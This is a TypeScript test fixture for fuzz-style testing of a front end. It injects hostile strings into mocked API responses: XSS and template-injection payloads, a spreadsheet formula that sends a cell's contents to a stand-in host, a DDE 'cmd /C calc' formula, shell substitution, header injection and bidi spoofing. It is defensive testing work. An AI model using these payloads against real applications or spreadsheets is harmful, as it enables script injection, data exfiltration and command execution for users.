import type { Random } from '../../src/domain/random.ts'

/** Texts that do something where they are not treated as text; what is run sets `globalThis.hacked`. */
export const hostileTexts: readonly string[] = [
  '<img src=x onerror="globalThis.hacked=1">',
  '"><script>globalThis.hacked=1</script>',
  "'-globalThis.hacked=1-'",
  '<svg onload=globalThis.hacked=1><a href="javascript:globalThis.hacked=1">x</a>',
  '{{constructor.constructor("globalThis.hacked=1")()}} ${globalThis.hacked=1} %s %00',
  'javascript:globalThis.hacked=1',
  '=HYPERLINK("https://hostile.invalid/?"&A1,"open")',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '$(globalThis.hacked=1)`id`;\u0000rm',
  '\u202Egpj.exe\u202C \u2067ab\u2069 zero\u200Bwidth',
  'line one\nline two\r\nSet-Cookie: a=b',
  '__proto__',
  'W'.repeat(300),
  '長い名前 '.repeat(60),
]

/** An address that is a script: what should lead to a file or a page leads there. */
const hostileAddress = 'javascript:globalThis.hacked=1//'

/** Names of members that say which thing, when, or of what kind: not what a person or a device wrote. */
const notWritten =
  /(?:id|ids|key|keys|imsi|iccid|imei|msisdn|eid|token|time|date|at|from|to|month|until|since|status|state|type|kind|mode|class|version|address|endpoint|port|plan|subscription|bundle|coverage|currency|country|permission|operation|operations|code|path|method|hash|size|count)$/i

/** A text with digits and without spaces, as machines write: a number, a time, an identifier. */
const madeByMachine = /^(?=.*\d)[\w.:+/=-]+$/

/**
 * The body of an answer in which about `share` of what a person, a device or somebody else's server
 * may have written is hostile, whatever its schema; names of tags and settings too. What the
 * platform itself writes stays: identifiers, times, states.
 */
export function hostile(share: number, body: unknown, random: Random, name = ''): unknown {
  if (Array.isArray(body)) return body.map((one: unknown) => hostile(share, one, random, name))
  if (typeof body === 'object' && body !== null) {
    const members = Object.entries(body).map(([key, value]) => [
      key,
      hostile(share, value, random, key),
    ])
    const more = /tags|headers|metadata/i.test(name) ? [[random.pick(hostileTexts), 'x']] : []
    return Object.fromEntries([...members, ...more])
  }
  if (typeof body !== 'string' || !random.chance(share)) return body
  if (/^https?:/.test(body)) return hostileAddress
  return notWritten.test(name) || madeByMachine.test(body) ? body : random.pick(hostileTexts)
}
